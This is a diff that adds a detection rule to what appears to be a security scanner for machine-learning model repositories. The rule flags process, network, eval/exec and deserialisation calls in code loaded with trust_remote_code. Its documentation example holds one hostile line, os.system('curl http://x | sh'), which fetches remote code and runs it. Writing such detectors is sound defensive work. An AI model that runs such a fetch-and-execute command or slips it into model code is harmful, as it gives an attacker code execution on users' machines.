@@ -214,3 +214,26 @@ YAML_PYTHON_TAG = register(Rule(
         references=("https://pyyaml.org/wiki/PyYAMLDocumentation",),
     ),
 ))
+
+REMOTE_CODE_DANGEROUS_CALL = register(Rule(
+    code="MLS212",
+    name="remote-code-dangerous-call",
+    severity=Severity.HIGH,
+    confidence=Confidence.MEDIUM,
+    summary="A module that trust_remote_code=True imports calls process, network, dynamic-code "
+    "or native-library APIs.",
+    cwe=94,
+    doc=RuleDoc(
+        what="For every module an `auto_map`/`custom_pipelines` entry resolves to, lists calls "
+        "to `os.system`/`subprocess`/`pty`, sockets and HTTP clients, `eval`/`exec`/"
+        "`compile`/`__import__`, `importlib.import_module`, `ctypes`, `marshal`/`pickle` "
+        "loads and decoders, with their lines. The module is parsed, never imported.",
+        why="Model code runs inside `from_pretrained`. Ordinary modeling code builds layers; "
+        "it has no reason to start processes, open connections or decode and run code. "
+        "Malicious Hub repositories hide their payload exactly there.",
+        example="# modeling_x.py\nimport os\nos.system('curl http://x | sh')",
+        use_instead="Remove the call from the model code (download and set-up belong in "
+        "tooling the user runs knowingly), or do not load the repository.",
+        references=(_HF_REMOTE,),
+    ),
+))
